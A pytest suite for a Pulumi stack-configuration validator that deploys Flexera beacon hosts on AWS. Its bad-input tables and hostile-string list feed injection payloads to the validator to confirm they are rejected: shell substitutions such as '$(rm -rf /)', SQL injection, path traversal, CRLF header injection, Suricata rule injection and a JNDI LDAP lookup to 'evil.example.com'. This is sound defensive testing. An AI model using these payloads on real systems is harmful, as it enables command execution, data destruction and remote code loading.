"""Stack configuration (components/config.py): validate(), load() and stack_file_to_raw().

Every raw value is a STRING, as Pulumi hands it to a program: arrays as JSON, booleans as
"true"/"false", integers as "5".
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
import yaml

from components import config
from components.config import (
    EGRESS_GROUPS,
    KEYS,
    KEYS_BY_NAME,
    PROJECT,
    BeaconConfig,
    ConfigInvalid,
    ConfigIssue,
    load,
    stack_file_to_raw,
    validate,
)

REGION = "us-east-1"
KMS_KEY = "arn:aws:kms:us-east-1:123456789012:key/1234abcd-12ab-34cd-56ef-1234567890ab"
TOPIC = "arn:aws:sns:us-east-1:123456789012:beacon-alarms"
BOUNDARY = "arn:aws:iam::123456789012:policy/beacon-boundary"


def j(value: Any) -> str:
    """A Python list as the JSON string Pulumi passes for an array key."""
    return json.dumps(value)


# --- bad inputs: one per row, each naming key, value and expectation ------------------------

def bad(id_: str, raw: dict[str, str], key: str, value: str, expected: str, region: str | None = REGION):
    return pytest.param(raw, key, value, expected, region, id=id_)


BAD_CASES = [
    # vpcCidr
    bad("vpc-not-a-cidr", {"vpcCidr": "banana"}, "vpcCidr", "banana", "IPv4 CIDR"),
    bad("vpc-prefix-33", {"vpcCidr": "10.80.0.0/33"}, "vpcCidr", "10.80.0.0/33", "IPv4 CIDR"),
    bad("vpc-host-bits", {"vpcCidr": "10.80.0.1/22"}, "vpcCidr", "10.80.0.1/22", "no host bits set"),
    bad("vpc-public-range", {"vpcCidr": "8.8.0.0/22"}, "vpcCidr", "8.8.0.0/22", "RFC 1918"),
    bad("vpc-ipv6", {"vpcCidr": "fd00::/56"}, "vpcCidr", "fd00::/56", "IPv4 CIDR"),
    bad("vpc-too-small-25", {"vpcCidr": "10.80.0.0/25"}, "vpcCidr", "10.80.0.0/25", "/24"),
    bad("vpc-too-large-15", {"vpcCidr": "10.0.0.0/15"}, "vpcCidr", "10.0.0.0/15", "/16"),
    bad("vpc-netmask-form", {"vpcCidr": "10.80.0.0/255.255.252.0"}, "vpcCidr", "10.80.0.0/255.255.252.0", "IPv4 CIDR"),
    bad("vpc-overlaps-avoid", {"avoidCidrs": j(["10.0.0.0/8"])}, "vpcCidr", "10.80.0.0/22",
        "does not overlap avoidCidrs entry 10.0.0.0/8"),
    bad("avoid-bad-cidr", {"avoidCidrs": j(["192.168.1.1/16"])}, "avoidCidrs", "192.168.1.1/16", "IPv4 CIDR"),
    # azCount
    bad("az-count-0", {"azCount": "0"}, "azCount", "'0'", "from 1 to 3"),
    bad("az-count-4", {"azCount": "4"}, "azCount", "'4'", "from 1 to 3"),
    bad("az-count-two", {"azCount": "two"}, "azCount", "two", "an integer"),
    # availabilityZones
    bad("az-wrong-region", {"azCount": "1", "availabilityZones": j(["eu-west-1a"])},
        "availabilityZones", "eu-west-1a", "zone of the stack's region, like us-east-1a"),
    bad("az-wrong-count", {"availabilityZones": j(["us-east-1a"])},
        "availabilityZones", "us-east-1a", "exactly azCount (2)"),
    bad("az-duplicates", {"availabilityZones": j(["us-east-1a", "us-east-1a"])},
        "availabilityZones", '["us-east-1a", "us-east-1a"]', "distinct zone names"),
    bad("az-not-json", {"availabilityZones": "us-east-1a,us-east-1b"},
        "availabilityZones", "us-east-1a,us-east-1b", "list of strings"),
    # beaconCount
    bad("beacons-0", {"beaconCount": "0"}, "beaconCount", "'0'", "from 1 to 20"),
    bad("beacons-21", {"beaconCount": "21"}, "beaconCount", "'21'", "from 1 to 20"),
    bad("beacons-1.5", {"beaconCount": "1.5"}, "beaconCount", "1.5", "an integer"),
    bad("beacons-5000-digits", {"beaconCount": "9" * 5000}, "beaconCount", "9" * 100, "an integer"),
    # beaconHostnames
    bad("host-url", {"beaconHostnames": j(["https://beacon.example.com/"])},
        "beaconHostnames", "https://beacon.example.com/", "not a URL"),
    bad("host-underscore", {"beaconHostnames": j(["beacon_1.example.com"])},
        "beaconHostnames", "beacon_1.example.com", "letters, digits, hyphens"),
    bad("host-single-label", {"beaconHostnames": j(["beacon"])},
        "beaconHostnames", "beacon", "at least two labels"),
    bad("host-ip-address", {"beaconHostnames": j(["192.0.2.10"])},
        "beaconHostnames", "192.0.2.10", "not an IP address"),
    bad("host-wrong-count", {"beaconCount": "2", "beaconHostnames": j(["a.example.com"])},
        "beaconHostnames", "a.example.com", "one host name per beacon (beaconCount = 2)"),
    bad("host-duplicates-case", {"beaconCount": "2", "beaconHostnames": j(["b.example.com", "B.Example.com"])},
        "beaconHostnames", "B.Example.com", "distinct host names"),
    bad("host-too-long", {"beaconHostnames": j([("a" * 60 + ".") * 5 + "com"])},
        "beaconHostnames", "a" * 60, "at most 253 characters"),
    # instanceType
    bad("type-graviton-m6g", {"instanceType": "m6g.large"}, "instanceType", "m6g.large", "Graviton"),
    bad("type-graviton-t4g", {"instanceType": "t4g.medium"}, "instanceType", "t4g.medium", "Graviton"),
    bad("type-graviton-a1", {"instanceType": "a1.large"}, "instanceType", "a1.large", "Graviton"),
    bad("type-graviton-c7gn", {"instanceType": "c7gn.xlarge"}, "instanceType", "c7gn.xlarge", "x86_64"),
    bad("type-too-small", {"instanceType": "t3.micro"}, "instanceType", "t3.micro", "at least 4 GiB"),
    bad("type-garbage", {"instanceType": "big-box"}, "instanceType", "big-box", "like m6i.large"),
    bad("type-unicode-digit", {"instanceType": "m\u0666i.large"}, "instanceType", "m\u0666i.large", "like m6i.large"),
    # rootVolumeGb
    bad("root-20", {"rootVolumeGb": "20"}, "rootVolumeGb", "'20'", "from 30"),
    bad("root-16385", {"rootVolumeGb": "16385"}, "rootVolumeGb", "16385", "16384"),
    # amiId
    bad("ami-short", {"amiId": "ami-123"}, "amiId", "ami-123", "like ami-0123456789abcdef0"),
    bad("ami-uppercase", {"amiId": "ami-0123456789ABCDEF0"}, "amiId", "ami-0123456789ABCDEF0", "AMI id"),
    # allowedIngressCidrs
    bad("ingress-empty", {"allowedIngressCidrs": "[]"}, "allowedIngressCidrs", "[]", "at least one CIDR"),
    bad("ingress-bad-cidr", {"allowedIngressCidrs": j(["203.0.113.0/33"])},
        "allowedIngressCidrs", "203.0.113.0/33", "IPv4 CIDR"),
    bad("ingress-host-bits", {"allowedIngressCidrs": j(["203.0.113.9/24"])},
        "allowedIngressCidrs", "203.0.113.9/24", "no host bits set"),
    bad("ingress-no-prefix", {"allowedIngressCidrs": j(["203.0.113.9"])},
        "allowedIngressCidrs", "203.0.113.9", "IPv4 CIDR"),
    bad("ingress-plain-string", {"allowedIngressCidrs": "0.0.0.0/0"},
        "allowedIngressCidrs", "0.0.0.0/0", "list of strings"),
    bad("ingress-duplicates", {"allowedIngressCidrs": j(["198.51.100.0/24", "198.51.100.0/24"])},
        "allowedIngressCidrs", '["198.51.100.0/24", "198.51.100.0/24"]', "no duplicate CIDRs"),
    bad("ingress-ipv6", {"allowedIngressCidrs": j(["::/0"])}, "allowedIngressCidrs", "::/0", "IPv4 CIDR"),
    # egressPorts
    bad("port-0", {"egressPorts": "[0]"}, "egressPorts", "'0'", "TCP port from 1 to 65535"),
    bad("port-70000", {"egressPorts": "[443, 70000]"}, "egressPorts", "70000", "TCP port from 1 to 65535"),
    bad("port-strings", {"egressPorts": '["443"]'}, "egressPorts", '["443"]', "list of integers"),
    bad("port-bool", {"egressPorts": "[true]"}, "egressPorts", "[true]", "list of integers"),
    bad("port-duplicates", {"egressPorts": "[443, 443]"}, "egressPorts", "[443, 443]", "no duplicate ports"),
    bad("port-empty", {"egressPorts": "[]"}, "egressPorts", "[]", "at least one port"),
    # crlUrls
    bad("crl-ldap", {"crlUrls": j(["ldap://crl.example.com/CN=CA,O=Example"])},
        "crlUrls", "ldap://crl.example.com/CN=CA,O=Example", "ldap://"),
    bad("crl-ftp", {"crlUrls": j(["ftp://crl.example.com/ca.crl"])},
        "crlUrls", "ftp://crl.example.com/ca.crl", "http:// or https:// URL"),
    bad("crl-ip-host", {"crlUrls": j(["http://192.0.2.5/ca.crl"])},
        "crlUrls", "http://192.0.2.5/ca.crl", "host is a DNS name"),
    bad("crl-not-a-url", {"crlUrls": j(["crl.example.com/ca.crl"])},
        "crlUrls", "crl.example.com/ca.crl", "http:// or https:// URL"),
    bad("crl-bad-port", {"crlUrls": j(["http://crl.example.com:99999/ca.crl"])},
        "crlUrls", "http://crl.example.com:99999/ca.crl", "valid host and port"),
    bad("crl-newline-in-host", {"crlUrls": j(["http://crl.exa\nmple.com/ca.crl"])},
        "crlUrls", r"http://crl.exa\nmple.com/ca.crl", "RFC 3986"),
    bad("crl-leading-space", {"crlUrls": j([" http://crl.example.com/ca.crl"])},
        "crlUrls", " http://crl.example.com/ca.crl", "no spaces"),
    bad("crl-plain-string", {"crlUrls": "http://crl.example.com/ca.crl"},
        "crlUrls", "http://crl.example.com/ca.crl", "list of strings"),
    # domain lists
    bad("crldomain-wildcard", {"crlDomains": j(["*.example.com"])}, "crlDomains", "*.example.com", "no wildcards"),
    bad("crldomain-url", {"crlDomains": j(["http://crl.example.com/"])},
        "crlDomains", "http://crl.example.com/", "not a URL"),
    bad("crldomain-spaces", {"crlDomains": j(["crl example.com"])}, "crlDomains", "crl example.com", "DNS domain"),
    bad("crldomain-suricata-injection", {"crlDomains": j(['a.com"; sid:1;'])},
        "crlDomains", 'a.com"; sid:1;', "DNS domain"),
    bad("parent-wildcard", {"flexeraParentDomains": j(["*.flexera.com"])},
        "flexeraParentDomains", "*.flexera.com", "no wildcards"),
    bad("parent-url", {"flexeraParentDomains": j(["https://beacon.flexnetmanager.com/"])},
        "flexeraParentDomains", "https://beacon.flexnetmanager.com/", "not a URL"),
    bad("parent-semicolon", {"flexeraParentDomains": j(["flexera.com;drop"])},
        "flexeraParentDomains", "flexera.com;drop", "DNS domain"),
    bad("parent-quote", {"flexeraParentDomains": j(["flexera.com'"])},
        "flexeraParentDomains", "flexera.com'", "DNS domain"),
    bad("aws-extra-double-dot", {"awsEndpointsExtraDomains": j(["..amazonaws.com"])},
        "awsEndpointsExtraDomains", "..amazonaws.com", "DNS domain"),
    bad("wu-extra-empty", {"windowsUpdateExtraDomains": j([""])}, "windowsUpdateExtraDomains", "''", "a domain like"),
    bad("domains-not-a-list", {"crlDomains": '{"a": 1}'}, "crlDomains", '{"a": 1}', "list of strings"),
    # egressDisabledGroups
    bad("disabled-unknown-group", {"egressDisabledGroups": j(["crls"])},
        "egressDisabledGroups", "crls", "one of crl, flexera-parent, aws-endpoints, windows-update"),
    # log retention
    bad("flow-retention-10", {"flowLogRetentionDays": "10"}, "flowLogRetentionDays", "'10'", "CloudWatch Logs retention"),
    bad("fw-retention-10", {"firewallLogRetentionDays": "10"}, "firewallLogRetentionDays", "'10'", "CloudWatch Logs retention"),
    # ARNs
    bad("kms-wrong-service", {"logKmsKeyArn": TOPIC}, "logKmsKeyArn", TOPIC, "arn:aws:kms:us-east-1:"),
    bad("kms-wrong-region", {"logKmsKeyArn": KMS_KEY.replace("us-east-1", "eu-west-1")},
        "logKmsKeyArn", "arn:aws:kms:eu-west-1:", "in the stack's region us-east-1"),
    bad("kms-garbage", {"logKmsKeyArn": "1234abcd-12ab"}, "logKmsKeyArn", "1234abcd-12ab", "an ARN like arn:aws:kms"),
    bad("kms-alias-not-key", {"logKmsKeyArn": "arn:aws:kms:us-east-1:123456789012:alias/logs"},
        "logKmsKeyArn", "alias/logs", ":key/"),
    bad("boundary-wrong-service", {"permissionsBoundaryArn": TOPIC}, "permissionsBoundaryArn", TOPIC, "arn:aws:iam::"),
    bad("boundary-has-region", {"permissionsBoundaryArn": "arn:aws:iam:us-east-1:123456789012:policy/b"},
        "permissionsBoundaryArn", "arn:aws:iam:us-east-1:", "empty region"),
    bad("boundary-garbage", {"permissionsBoundaryArn": "policy/beacon-boundary"},
        "permissionsBoundaryArn", "policy/beacon-boundary", "an ARN like arn:aws:iam::"),
    bad("boundary-role-not-policy", {"permissionsBoundaryArn": "arn:aws:iam::123456789012:role/x"},
        "permissionsBoundaryArn", "role/x", ":policy/"),
    bad("topic-wrong-service", {"alarmTopicArn": "arn:aws:sqs:us-east-1:123456789012:q"},
        "alarmTopicArn", "arn:aws:sqs:", "arn:aws:sns:us-east-1:"),
    bad("topic-wrong-region", {"alarmTopicArn": TOPIC.replace("us-east-1", "ap-south-1")},
        "alarmTopicArn", "arn:aws:sns:ap-south-1:", "in the stack's region us-east-1"),
    bad("topic-garbage", {"alarmTopicArn": "beacon-alarms"}, "alarmTopicArn", "beacon-alarms", "an ARN like arn:aws:sns"),
    bad("topic-no-account", {"alarmTopicArn": "arn:aws:sns:us-east-1::t"}, "alarmTopicArn", "arn:aws:sns:us-east-1::t", "ARN"),
    bad("topic-injection", {"alarmTopicArn": TOPIC + '"; Remove-Item C:\\'}, "alarmTopicArn", "beacon-alarms", "ARN"),
    # tags
    bad("owner-semicolon", {"owner": "alice;bob"}, "owner", "alice;bob", "tag value of 1-256"),
    bad("owner-too-long", {"owner": "a" * 257}, "owner", "a" * 100, "tag value of 1-256"),
    bad("owner-empty", {"owner": ""}, "owner", "got ''", "tag value of 1-256"),
    bad("owner-newline", {"owner": "alice\nbob"}, "owner", r"alice\nbob", "tag value of 1-256"),
    bad("cost-hash", {"costCentre": "cc#42"}, "costCentre", "cc#42", "tag value of 1-256"),
    bad("cost-too-long", {"costCentre": "c" * 300}, "costCentre", "c" * 100, "tag value of 1-256"),
    bad("cost-tab", {"costCentre": "cc\t42"}, "costCentre", r"cc\t42", "tag value of 1-256"),
    # booleans
    bad("allowhttp-yes", {"allowHttp": "yes"}, "allowHttp", "yes", "true or false"),
    bad("protection-1", {"protection": "1"}, "protection", "'1'", "true or false"),
    bad("protection-yes", {"protection": "yes"}, "protection", "yes", "true or false"),
    # unknown keys
    bad("unknown-beaconcount", {"beaconcount": "2"}, f"{PROJECT}:beaconcount", "'2'", "did you mean beaconCount?"),
    bad("unknown-vpccdir", {"vpcCdir": "10.0.0.0/22"}, f"{PROJECT}:vpcCdir", "10.0.0.0/22", "did you mean vpcCidr?"),
    bad("unknown-no-hint", {"zzzzz": "1"}, f"{PROJECT}:zzzzz", "'1'", "a known key"),
    # nesting bomb: must be an issue, not a RecursionError
    bad("array-deep-nesting", {"avoidCidrs": "[" * 100_000}, "avoidCidrs", "[[[[[[", "list of strings"),
    # aws:region
    bad("region-missing", {}, "aws:region", "got ''", "pulumi config set aws:region", region=None),
    bad("region-garbage", {}, "aws:region", "moon-base", "an AWS region like us-east-1", region="moon-base"),
    bad("region-uppercase", {}, "aws:region", "US-EAST-1", "an AWS region", region="US-EAST-1"),
    bad("region-unicode-digit", {}, "aws:region", "us-east-\u0661", "an AWS region", region="us-east-\u0661"),
]


def test_bad_cases_are_distinct_and_plentiful():
    ids = [p.id for p in BAD_CASES]
    assert len(ids) == len(set(ids))
    assert len({(json.dumps(p.values[0], sort_keys=True), p.values[4]) for p in BAD_CASES}) == len(BAD_CASES)
    assert len(BAD_CASES) >= 35


@pytest.mark.parametrize("raw, key, value, expected, region", BAD_CASES)
def test_bad_input_is_reported(raw, key, value, expected, region):
    issues = validate(raw, "dev", region)
    assert issues, f"{raw!r} was accepted"
    # Only the key under test is blamed (a wrong region also fails nothing else with {}).
    assert {i.key for i in issues} == {key}, issues
    matching = [i for i in issues if value in str(i) and expected in i.expected]
    assert matching, f"no issue for {key} showing {value!r} and expecting {expected!r}: {[str(i) for i in issues]}"
    for issue in issues:
        assert "\n" not in str(issue)  # one line per problem, whatever the value held

    with pytest.raises(ConfigInvalid) as err:
        load(raw, "dev", region)
    assert err.value.issues == issues
    assert str(matching[0]) in str(err.value)


def test_all_problems_reported_at_once():
    raw = {
        "vpcCidr": "8.8.8.0/24",
        "azCount": "9",
        "instanceType": "m6g.large",
        "egressPorts": '["443"]',
        "owner": "bob;drop",
    }
    issues = validate(raw, "prod", REGION)
    assert len(issues) == 5
    assert sorted(i.key for i in issues) == sorted(raw)  # one issue per key, none lost
    with pytest.raises(ConfigInvalid) as err:
        load(raw, "prod", REGION)
    text = str(err.value)
    assert text.startswith("invalid stack configuration (5 problems):")
    for key, value in raw.items():
        assert f"  - {key}: got {value!r}" in text


def test_one_problem_is_singular_and_several_items_of_one_key_all_reported():
    err = ConfigInvalid([ConfigIssue("azCount", 0, "an integer from 1 to 3")])
    assert str(err).startswith("invalid stack configuration (1 problem):")
    issues = validate({"crlDomains": j(["*.a.com", "b", "ok.example.com", "c d.com"])}, "dev", REGION)
    assert [i.value for i in issues] == ["*.a.com", "b", "c d.com"]


def test_long_values_are_shortened_in_messages():
    issue = validate({"owner": "x" * 1000 + ";"}, "dev", REGION)[0]
    assert issue.value == "x" * 1000 + ";"  # the issue keeps the whole value
    assert len(str(issue)) < 300 and "..." in str(issue)


# --- good inputs ---------------------------------------------------------------------------

def pulumi_string(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return json.dumps(value)
    return str(value)


def test_defaults_only_config_loads():
    cfg = load({}, "dev", REGION)
    assert isinstance(cfg, BeaconConfig)
    assert cfg.region == REGION and cfg.stack == "dev"
    assert cfg.vpc_cidr == "10.80.0.0/22"
    assert cfg.az_count == 2 and cfg.beacon_count == 1
    assert cfg.instance_type == "m6i.large" and cfg.root_volume_gb == 60
    assert cfg.allowed_ingress_cidrs == ("0.0.0.0/0",)
    assert cfg.egress_ports == (80, 443)
    assert cfg.allow_http is False and cfg.protection is False
    assert cfg.availability_zones == () and cfg.beacon_hostnames == ()
    assert cfg.owner == "unassigned" and cfg.cost_centre == "unassigned"
    assert set(cfg.egress_groups) == set(EGRESS_GROUPS)
    assert all(g.enabled == (name != "windows-extras") and g.extra_domains == () for name, g in cfg.egress_groups.items())
    assert cfg.name_prefix == f"{PROJECT}/dev/"


def test_every_default_given_explicitly_as_a_pulumi_string_is_valid():
    raw = {k.name: pulumi_string(k.default) for k in KEYS if k.default is not None}
    assert validate(raw, "dev", REGION) == []
    assert load(raw, "dev", REGION) == load({}, "dev", REGION)


def test_fields_are_typed():
    raw = {
        "vpcCidr": "172.16.0.0/20",
        "azCount": "3",
        "availabilityZones": j(["us-east-1a", "us-east-1b", "us-east-1d"]),
        "avoidCidrs": j(["10.0.0.0/8", "192.168.0.0/16"]),
        "beaconCount": "3",
        "beaconHostnames": j(["Beacon1.Example.com", "beacon2.example.com", "beacon3.example.com"]),
        "instanceType": "c6i.xlarge",
        "rootVolumeGb": "+100",
        "amiId": "ami-0123456789abcdef0",
        "allowedIngressCidrs": j(["203.0.113.0/24", "198.51.100.7/32"]),
        "allowHttp": "True",
        "egressPorts": "[443, 8443]",
        "flowLogRetentionDays": "365",
        "firewallLogRetentionDays": "3653",
        "logKmsKeyArn": KMS_KEY,
        "permissionsBoundaryArn": BOUNDARY,
        "alarmTopicArn": TOPIC,
        "protection": "false",
        "owner": "Zoë Müller @ platform-team",
        "costCentre": "CC-4711/ops",
    }
    cfg = load(raw, "prod", REGION)
    assert cfg.az_count == 3 and type(cfg.az_count) is int
    assert cfg.beacon_count == 3 and type(cfg.beacon_count) is int
    assert cfg.root_volume_gb == 100 and type(cfg.root_volume_gb) is int
    assert type(cfg.flow_log_retention_days) is int and cfg.firewall_log_retention_days == 3653
    assert cfg.availability_zones == ("us-east-1a", "us-east-1b", "us-east-1d")
    assert cfg.avoid_cidrs == ("10.0.0.0/8", "192.168.0.0/16")
    assert cfg.beacon_hostnames == ("beacon1.example.com", "beacon2.example.com", "beacon3.example.com")
    assert cfg.allowed_ingress_cidrs == ("203.0.113.0/24", "198.51.100.7/32")
    assert cfg.egress_ports == (443, 8443) and all(type(p) is int for p in cfg.egress_ports)
    assert cfg.allow_http is True and cfg.protection is False
    assert (cfg.log_kms_key_arn, cfg.permissions_boundary_arn, cfg.alarm_topic_arn) == (KMS_KEY, BOUNDARY, TOPIC)
    assert cfg.owner == "Zoë Müller @ platform-team" and cfg.cost_centre == "CC-4711/ops"
    for name in ("availability_zones", "avoid_cidrs", "beacon_hostnames", "allowed_ingress_cidrs",
                 "egress_ports", "crl_urls", "warnings"):
        assert isinstance(getattr(cfg, name), tuple), name
    assert any("allowHttp" in w for w in cfg.warnings)
    assert not any("unassigned" in w for w in cfg.warnings)


@pytest.mark.parametrize("stack, raw, expected", [
    pytest.param("prod", {}, True, id="prod-default-on"),
    pytest.param("prod-eu", {}, True, id="prod-eu-default-on"),
    pytest.param("dev", {}, False, id="dev-default-off"),
    pytest.param("staging", {}, False, id="staging-default-off"),
    pytest.param("prod", {"protection": "false"}, False, id="prod-explicit-false"),
    pytest.param("prod-eu", {"protection": "false"}, False, id="prod-eu-explicit-false"),
    pytest.param("prod", {"protection": "auto"}, True, id="prod-explicit-auto"),
    pytest.param("dev", {"protection": "auto"}, False, id="dev-explicit-auto"),
    pytest.param("dev", {"protection": "true"}, True, id="dev-explicit-true"),
])
def test_protection_default_follows_stack_name(stack, raw, expected):
    assert load(raw, stack, REGION).protection is expected


def test_crl_url_hosts_join_the_crl_group():
    cfg = load({
        "crlUrls": j(["http://CRL.Example.com/ca.crl", "https://pki.example.org:8443/sub/ca.crl?x=1"]),
        "crlDomains": j([".crl.example.net"]),
        "flexeraParentDomains": j(["beacon.flexnetmanager.com"]),
    }, "dev", REGION)
    assert cfg.crl_urls == ("http://CRL.Example.com/ca.crl", "https://pki.example.org:8443/sub/ca.crl?x=1")
    assert cfg.egress_groups["crl"].extra_domains == ("crl.example.com", "pki.example.org", ".crl.example.net")
    assert cfg.egress_groups["flexera-parent"].extra_domains == ("beacon.flexnetmanager.com",)
    assert not any("CRL" in w for w in cfg.warnings)


def test_egress_disabled_groups_switch_groups_off():
    cfg = load({"egressDisabledGroups": j(["windows-update", "crl"])}, "dev", REGION)
    enabled = {name: g.enabled for name, g in cfg.egress_groups.items()}
    assert enabled == {"crl": False, "flexera-parent": True, "aws-endpoints": True, "windows-update": False, "windows-extras": False}
    opted = load({"windowsExtrasEgress": "true"}, "dev", REGION).egress_groups["windows-extras"]
    assert opted.enabled
    both = load({"windowsExtrasEgress": "true", "egressDisabledGroups": j(["windows-extras"])}, "dev", REGION)
    assert not both.egress_groups["windows-extras"].enabled, "egressDisabledGroups wins"
    # crl off while revocation checking is on: every device would get 403.13
    assert any("crl egress group is off" in w and "403.13" in w for w in cfg.warnings)
    quiet = load({"egressDisabledGroups": j(["crl"]), "revocationChecking": "false"}, "dev", REGION)
    assert not any("crl egress" in w for w in quiet.warnings)


def test_warnings_for_unassigned_owner():
    cfg = load({}, "dev", REGION)
    assert any("owner/costCentre" in w and "unassigned" in w for w in cfg.warnings)
    assert any("unassigned" in w for w in load({"owner": "alice"}, "dev", REGION).warnings)  # costCentre still unassigned
    tidy = load({"owner": "alice", "costCentre": "cc-1", "crlDomains": j([".example.com"])}, "dev", REGION)
    assert tidy.warnings == ()


@pytest.mark.parametrize("raw", [
    pytest.param({"vpcCidr": "192.168.0.0/24"}, id="vpc-24"),
    pytest.param({"vpcCidr": "172.16.0.0/16"}, id="vpc-16"),
    pytest.param({"avoidCidrs": j(["10.80.4.0/22"])}, id="avoid-adjacent"),
    pytest.param({"azCount": "1", "availabilityZones": j(["us-east-1f"])}, id="one-explicit-az"),
    pytest.param({"beaconCount": "20"}, id="twenty-beacons"),
    pytest.param({"beaconHostnames": j(["xn--bcher-kva.example.com"])}, id="punycode-host"),
    pytest.param({"instanceType": "t3.medium"}, id="t3-medium"),
    pytest.param({"instanceType": "m7i-flex.large"}, id="m7i-flex"),
    pytest.param({"instanceType": "g4dn.xlarge"}, id="g4dn-x86-gpu"),
    pytest.param({"rootVolumeGb": "30"}, id="root-30"),
    pytest.param({"amiId": "ami-01234567"}, id="ami-short-form"),
    pytest.param({"egressPorts": "[1, 65535]"}, id="port-bounds"),
    pytest.param({"crlUrls": j(["http://crl.example.com/CA%20One.crl"])}, id="crl-percent-encoded"),
    pytest.param({"crlDomains": j([".example.com", "CRL.Example.COM"])}, id="domains-mixed-case"),
    pytest.param({"permissionsBoundaryArn": "arn:aws:iam::aws:policy/PowerUserAccess"}, id="aws-managed-boundary"),
    pytest.param({"permissionsBoundaryArn": "arn:aws:iam::123456789012:policy/path/to/b+o=u,n.d@ry"}, id="boundary-path"),
    pytest.param({"alarmTopicArn": "arn:aws:sns:us-east-1:123456789012:alarms.fifo"}, id="fifo-topic"),
    pytest.param({"owner": "team_platform: ops+sec=1/2 @corp.example"}, id="owner-all-allowed-punct"),
    pytest.param({"owner": "o" * 256}, id="owner-256"),
    pytest.param({"egressDisabledGroups": j(list(EGRESS_GROUPS))}, id="all-groups-off"),
])
def test_good_values_are_accepted(raw):
    assert validate(raw, "dev", REGION) == []


def test_gov_region_and_its_arns():
    region = "us-gov-west-1"
    cfg = load({
        "logKmsKeyArn": f"arn:aws-us-gov:kms:{region}:123456789012:key/mrk-1234abcd",
        "availabilityZones": j([f"{region}a", f"{region}b"]),
    }, "dev", region)
    assert cfg.region == region


# --- stack_file_to_raw --------------------------------------------------------------------

STACK_YAML = """
config:
  aws:region: eu-west-1
  aws:profile: beacon-admin
  flexnet-beacon:azCount: 1
  flexnet-beacon:beaconCount: 1
  flexnet-beacon:allowHttp: false
  flexnet-beacon:protection: true
  flexnet-beacon:egressPorts:
    - 80
    - 443
  flexnet-beacon:crlUrls:
    - http://crl.example.com/ca.crl
  flexnet-beacon:owner: platform-team
  flexnet-beacon:alarmTopicArn:
    secure: AAABAHVh+Pq9gBXTJ1f1kGtDyX0rZ2Wh
"""


def test_stack_file_to_raw_converts_like_the_pulumi_cli():
    document = yaml.safe_load(STACK_YAML)
    raw, region, secrets = stack_file_to_raw(document)
    assert region == "eu-west-1"
    assert secrets == [f"{PROJECT}:alarmTopicArn"]
    assert raw == {
        "azCount": "1",
        "beaconCount": "1",
        "allowHttp": "false",
        "protection": "true",
        "egressPorts": "[80, 443]",
        "crlUrls": '["http://crl.example.com/ca.crl"]',
        "owner": "platform-team",
        "alarmTopicArn": "[secret]",
    }
    assert all(isinstance(v, str) for v in raw.values())
    assert "profile" not in raw  # other namespaces stay out
    public = {k: v for k, v in raw.items() if f"{PROJECT}:{k}" not in secrets}
    cfg = load(public, "dev", region)
    assert cfg.az_count == 1 and cfg.egress_ports == (80, 443) and cfg.protection is True
    assert cfg.egress_groups["crl"].extra_domains == ("crl.example.com",)


def test_stack_file_to_raw_handles_empty_documents():
    assert stack_file_to_raw({}) == ({}, None, [])
    assert stack_file_to_raw({"config": None}) == ({}, None, [])


def test_stack_file_to_raw_keeps_nested_objects_as_json():
    raw, region, secrets = stack_file_to_raw({"config": {f"{PROJECT}:allowHttp": True, f"{PROJECT}:x": {"a": [1]}}})
    assert raw == {"allowHttp": "true", "x": '{"a": [1]}'}
    assert region is None and secrets == []


# --- hostile strings ------------------------------------------------------------------------

HOSTILE = [
    "", " ", "\t", "\n", "\r\n", "'", '"', "\\", "`", "\x00", "a\x00b.example.com",
    'a.com"; sid:1;', "$(rm -rf /)", "`whoami`", "; drop table beacons; --", "' OR 1=1 --",
    "beacon.example.com\n", "\nbeacon.example.com", " 10.0.0.0/8", "10.0.0.0/8\n",
    "ünïcödé.example.com", "例え.テスト", "\u202ebeacon.example.com", "\ufeff", "😀", "\u2028",
    "A" * 10_000, "a." * 200 + "com", "${jndi:ldap://evil.example.com/a}", "<script>alert(1)</script>",
    "%s%s%n", "{{7*7}}", "null", "true", "[]", "{}", "-1", "1e309", "NaN", "[" * 50_000,
    "../../etc/passwd", "C:\\Windows\\System32\\cmd.exe", "http://crl.example.com/\r\nHost: evil",
    "http://crl.example.com/$(id)'x", "arn:aws:kms:us-east-1:123456789012:key/\"; x",
    "us-east-1a\u0000", "m6i.large\n", "ami-0123456789abcdef0 ",
]

# Keys whose accepted values reach AWS APIs or Suricata rules verbatim: a strict alphabet.
_STRICT = re.compile(r"[A-Za-z0-9._:/+=,@-]*")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u202e\ufeff]")  # Cc and bidi/BOM (Zl/Zp are legal in tags)


def _raw_forms(key, s: str) -> list[str]:
    if key.type == "array":
        return [s, json.dumps([s]), json.dumps([s, s]), json.dumps(["ok.example.com", s])]
    return [s]


def _accepted_strings(cfg: BeaconConfig, key) -> list[str]:
    value = {
        "owner": cfg.owner, "costCentre": cfg.cost_centre, "crlUrls": cfg.crl_urls,
        "vpcCidr": cfg.vpc_cidr, "availabilityZones": cfg.availability_zones, "avoidCidrs": cfg.avoid_cidrs,
        "beaconHostnames": cfg.beacon_hostnames, "instanceType": cfg.instance_type, "amiId": cfg.ami_id,
        "allowedIngressCidrs": cfg.allowed_ingress_cidrs, "logKmsKeyArn": cfg.log_kms_key_arn,
        "permissionsBoundaryArn": cfg.permissions_boundary_arn, "alarmTopicArn": cfg.alarm_topic_arn,
    }.get(key.name, ())
    value = (value,) if isinstance(value, str) else value
    domains = [d for g in cfg.egress_groups.values() for d in g.extra_domains]
    return [*value, *domains]


@pytest.mark.parametrize("key", KEYS, ids=lambda k: k.name)
def test_hostile_strings_never_crash_and_blame_their_key(key):
    failures = []
    for s in HOSTILE:
        for raw_value in _raw_forms(key, s):
            raw = {key.name: raw_value}
            try:
                issues = validate(raw, "prod", REGION)
                rendered = [str(i) for i in issues]
            except Exception as exc:  # noqa: BLE001 - any exception is the failure we look for
                failures.append(f"{raw_value[:40]!r}: raised {type(exc).__name__}: {exc}"[:200])
                continue
            if any(i.key != key.name for i in issues):
                failures.append(f"{raw_value[:40]!r}: blamed {[i.key for i in issues]}")
            if any("\n" in line for line in rendered):
                failures.append(f"{raw_value[:40]!r}: multi-line message")
            if issues:
                continue
            cfg = load(raw, "prod", REGION)
            for text in _accepted_strings(cfg, key):
                if _CONTROL.search(text):
                    failures.append(f"{raw_value[:40]!r}: accepted control character in {text[:40]!r}")
